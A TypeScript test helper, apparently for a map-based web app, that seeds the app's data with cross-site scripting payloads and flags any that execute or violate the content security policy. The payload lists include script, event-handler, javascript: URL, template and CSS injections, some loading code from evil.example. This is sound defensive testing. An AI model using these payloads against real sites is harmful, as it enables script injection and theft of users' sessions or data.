import type { Browser, Page } from './browser.ts';
import { openPage, type Screen } from './browser.ts';

/** Ways out of text: into elements, attributes, style, script, addresses and templates. Each would call `broken`. */
export const WAYS_OUT = [
  '<img src=x onerror=broken()>',
  '"><svg onload=broken()>',
  "'><script>broken()</script>",
  '</title></textarea></style><script src=//evil.example/x.js></script>',
  '<iframe srcdoc="<script>parent.broken()</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=broken()>">',
  '" onmouseover="broken()" autofocus onfocus="broken()" x="',
  '<a href="javascript:broken()">press</a>',
  '{{constructor.constructor("broken()")()}}${broken()}<%= broken() %>',
  '{@html "<img src=x onerror=broken()>"}',
  '<style>*{background:url(//evil.example/style)}</style>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
  '&lt;img src=x onerror=broken()&gt;<!--',
  '\u202e</bdi><b>\u0000broken',
];
export const ADDRESSES = [
  'javascript:broken()',
  'JaVaScRiPt:broken()//https://',
  '\tjavascript:broken()',
  'data:text/html,<script>broken()</script>',
  'https://example.org/"onclick="broken()"><img src=x onerror=broken()>',
];
export const COLOURS = [
  'red;background:url(//evil.example/colour)',
  '"><img src=x onerror=broken()>',
  'url(//evil.example/paint)',
  '#12345g',
];

/** Fields whose values are of a few kinds or numbers of ours. */
const OURS = new Set(['status', 'when', 'role', 'aspect', 'precision', 'publishedOn', 'version', 'country']);

let [addresses, colours] = [0, 0];

/** An atlas with a way out in each of its texts, ids among them: the same in the same place, so that references hold. */
export function hostile<Value>(value: Value, field = '', record: object = {}): Value {
  if (Array.isArray(value)) return value.map((each) => hostile(each, field, record)) as Value;
  if (typeof value === 'object' && value !== null && field !== 'when')
    return Object.fromEntries(
      Object.entries(value).map(([name, part]) => [name, hostile(part, name, value)]),
    ) as Value;
  // Nothing refers to these, so each way has its turn, where the atlas has no address too.
  if (field === 'url') return ADDRESSES[addresses++ % ADDRESSES.length] as Value;
  if (field === 'color') return COLOURS[colours++ % COLOURS.length] as Value;
  if (typeof value !== 'string') return value;
  // What an actor is, and what it was at an event, share a name with what a place is to it.
  if (OURS.has(field) && !(field === 'role' && 'actor' in record)) return value;
  if (field === 'kind' && !('related' in record)) return value;
  const number = [...value].reduce((sum, letter) => (sum * 31 + (letter.codePointAt(0) ?? 0)) % 9973, 7);
  const pick = (ways: readonly string[]): string => ways[number % ways.length] ?? '';
  // By a name's language it is chosen: half of them stay what they are.
  if (field === 'language') return (number % 2 ? value : pick(WAYS_OUT)) as Value;
  return `${value} ${pick(WAYS_OUT)}` as Value;
}

/** A page on which anything that breaks out of its text is found. */
export interface GuardedPage {
  page: Page;
  /** What has broken out so far, or stands in the page and should not; empty is good. */
  broken(): Promise<string[]>;
  /** Goes to a page with marks, and waits until it asks for nothing more. */
  visit(address: string): Promise<void>;
  /** Goes on within the page, as the browser's way back does. */
  step(path: string): Promise<void>;
}

export async function openGuarded(browser: Browser, screen: Screen): Promise<GuardedPage> {
  const { page, problems } = await openPage(browser, screen);
  const found: string[] = [];
  page.on('dialog', (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('broken', () => found.push('script from the data ran'));
  await page.exposeFunction('violated', (what: string) => found.push(`forbidden by the policy: ${what}`));
  await page.addInitScript(() => {
    const { violated } = globalThis as unknown as { violated(what: string): void };
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      violated(`${violatedDirective} ${blockedURI}`),
    );
  });
  return {
    page,
    broken: async () => {
      const foreign = await page.evaluate(() => {
        const made =
          'main img:not(.leaflet-tile), iframe, object, embed, base, meta[http-equiv], math, [onerror], [onload], [onclick], [onmouseover], [onfocus], [autofocus], script:not([src]), body style';
        const links = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map((link) => link.href);
        return [
          ...[...document.querySelectorAll(made)].map((element) => element.outerHTML),
          ...links.filter((href) => !/^https?:/.test(href)),
        ];
      });
      return [...foreign, ...found, ...problems()];
    },
    visit: async (address) => {
      await page.goto(address);
      await page.locator('.mark').first().waitFor();
      await page.waitForLoadState('networkidle');
    },
    step: (path) =>
      page.evaluate((to) => {
        history.pushState(null, '', to);
        dispatchEvent(new PopStateEvent('popstate'));
      }, path),
  };
}
